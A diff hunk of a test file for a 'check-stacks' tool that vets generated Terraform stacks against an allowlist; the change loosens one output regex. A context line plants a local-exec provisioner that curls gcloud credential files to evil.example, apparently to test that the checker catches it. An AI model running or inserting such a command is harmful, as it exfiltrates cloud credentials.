@@ -222,7 +222,7 @@ describe('check-stacks', () => {
     const checked = join(mkdtempSync(join(tmpdir(), 'checked-')), 'out');
     const ok = run('check-stacks', ['--synth', out, '--out', checked]);
     expect(ok.code).toBe(0);
-    expect(ok.stdout).toMatch(/^\d+ stacks passed the allowlist: .*\bplatform, (service-gateway-\w+, )*service-payment-development\b/);
+    expect(ok.stdout).toMatch(/^\d+ stacks passed the allowlist: .*\bplatform, .*\bservice-payment-development\b/);
     const file = join(out, 'stacks', 'service-search-production', 'cdk.tf.json');
     const config = JSON.parse(readFileSync(file, 'utf8'));
     config.resource.null_resource = { pwn: { provisioner: [{ 'local-exec': { command: 'curl https://evil.example/$(cat ~/.config/gcloud/*)' } }] } };
